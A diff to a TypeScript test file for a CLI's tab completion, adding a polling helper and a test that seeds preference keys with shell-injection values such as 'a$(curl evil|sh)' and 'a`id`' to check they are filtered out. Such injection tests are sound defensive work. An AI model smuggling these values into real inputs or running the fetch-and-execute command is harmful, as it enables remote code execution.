@@ -2,13 +2,23 @@ import { existsSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { once } from 'node:events';
 import { join } from 'node:path';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 import { runCli, withTempDir } from '../support/run-cli.js';
 import { withUpgradeSite, type UpgradeSite } from '../support/upgrade-site.js';
 
 const SEED = { namespaces: ['etl', 'sales'], pipelines: [{ count: 3 }] };
 const complete = async (site: UpgradeSite, ...words: readonly string[]): Promise<readonly string[]> =>
   (await site.cdapctl(['complete', '--', ...words])).stdout.split('\n').slice(0, -1);
+
+/** As often as a user presses Tab where a busy platform did not answer within 200 ms: until it names something. */
+const offered = (site: UpgradeSite, ...words: readonly string[]): Promise<readonly string[]> =>
+  vi.waitUntil(
+    async () => {
+      const names = await complete(site, ...words);
+      return names.some((name) => name !== 'latest') && names;
+    },
+    { timeout: 60_000 },
+  );
 
 describe('completion', () => {
   it.each([
@@ -52,10 +62,10 @@ describe('completion', () => {
       expect(await complete(site, 'dashboard', '--context=p')).toEqual(['--context=prod']);
       expect(await complete(site, 'hub', 'remove', 'c')).toEqual(['corp']);
       const namespaces = ['default', 'etl', 'sales'];
-      expect(await complete(site, 'dashboard', '-n', '')).toEqual(namespaces);
-      const pipelines = await complete(site, 'pipeline', 'show', 'pipe');
+      expect(await offered(site, 'dashboard', '-n', '')).toEqual(namespaces);
+      const pipelines = await offered(site, 'pipeline', 'show', 'pipe');
       expect(pipelines.length).toBeGreaterThan(1);
-      expect(await complete(site, 'pipeline', 'show', 'default/pipe')).toEqual(
+      expect(await offered(site, 'pipeline', 'show', 'default/pipe')).toEqual(
         pipelines.map((name) => `default/${name}`),
       );
       await site.forget();
@@ -66,20 +76,20 @@ describe('completion', () => {
   it('knows the runs of a pipeline, its stored keys and its arguments', () =>
     withUpgradeSite({ seed: { ...SEED, runs: { count: 300 } } }, async (site) => {
       await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '-n', 'etl']);
-      const [name = ''] = await complete(site, 'pipeline', 'why', '');
-      const [latest, ...runs] = await complete(site, 'pipeline', 'why', name, '');
+      const [name = ''] = await offered(site, 'pipeline', 'why', '');
+      const [latest, ...runs] = await offered(site, 'pipeline', 'why', name, '');
       expect(latest).toBe('latest');
       expect(runs.length).toBeGreaterThan(1);
       const [first = ''] = runs;
-      expect(await complete(site, 'pipeline', 'start', name, '--like', first.slice(0, 12))).toContain(first);
+      expect(await offered(site, 'pipeline', 'start', name, '--like', first.slice(0, 12))).toContain(first);
       await site.cdapctl(['args', 'set', name, '--set', 'zone=eu', '-y']);
-      expect(await complete(site, 'args', 'unset', name, '--key', '')).toEqual(['zone']);
+      expect(await offered(site, 'args', 'unset', name, '--key', '')).toEqual(['zone']);
       await site.cdapctl(['preferences', 'set', '--set', 'region=eu', '-y']);
       await site.cdapctl(['preferences', 'set', '--level', 'instance', '--set', 'size=8', '-y']);
-      expect(await complete(site, 'preferences', 'unset', '--key', '')).toEqual(['region']);
-      expect(await complete(site, 'preferences', 'unset', '--level', 'instance', '--key', '')).toEqual(['size']);
-      expect(await complete(site, 'preferences', 'unset', name, '--level', 'program', '--key', 'z')).toEqual(['zone']);
-      expect(await complete(site, 'pipeline', 'start', name, '--set', 'zo')).toEqual(['zone=']);
+      expect(await offered(site, 'preferences', 'unset', '--key', '')).toEqual(['region']);
+      expect(await offered(site, 'preferences', 'unset', '--level', 'instance', '--key', '')).toEqual(['size']);
+      expect(await offered(site, 'preferences', 'unset', name, '--level', 'program', '--key', 'z')).toEqual(['zone']);
+      expect(await offered(site, 'pipeline', 'start', name, '--set', 'zo')).toEqual(['zone=']);
       expect(await complete(site, 'pipeline', 'why', 'nope', '')).toEqual(['latest']);
     }));
 
@@ -88,8 +98,8 @@ describe('completion', () => {
       await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '-n', 'etl']);
       const keys = ['a$(curl evil|sh)', 'a`id`', 'a b', "a'b", 'a;b', 'a\u001b[2J', 'a\nb', 'a~', 'aöß', 'a.b-c_1'];
       await site.call('PUT', 'etl/preferences', Object.fromEntries(keys.map((key) => [key, '1'])));
-      const offered = await complete(site, 'preferences', 'unset', '--key', 'a');
-      expect(offered.toSorted()).toEqual(['a.b-c_1', 'aöß']);
+      const names = await offered(site, 'preferences', 'unset', '--key', 'a');
+      expect(names.toSorted()).toEqual(['a.b-c_1', 'aöß']);
     }));
 
   it('keeps names that lists have shown, for a platform that a token command opens', () =>
